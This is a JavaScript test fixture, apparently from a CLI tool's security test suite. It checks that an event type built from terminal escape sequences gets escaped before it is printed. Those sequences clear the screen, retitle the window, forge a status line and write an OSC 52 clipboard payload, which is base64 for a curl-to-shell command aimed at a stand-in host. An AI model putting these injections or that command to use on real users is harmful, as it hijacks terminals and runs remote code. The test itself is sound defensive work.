/**
 * @class terminal
 * @attack A run that suspends waiting for an event whose type is terminal escapes (clear the
 *   screen, retitle the window, OSC 52 clipboard write, a carriage return and a forged status
 *   line). `alice run` tells the operator what the run waits for, and how to deliver it
 *   (`alice event <type>`), on stderr; the type must reach the terminal escaped.
 * @expect {"status":"suspended"}
 */
export default async (input, actions) => {
  const type = '\u001b[2J\u001b]0;pwned\u0007\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007\ralice: run completed\u009b31m';
  return actions.waitForEvent(type, { timeout: '7d' });
};
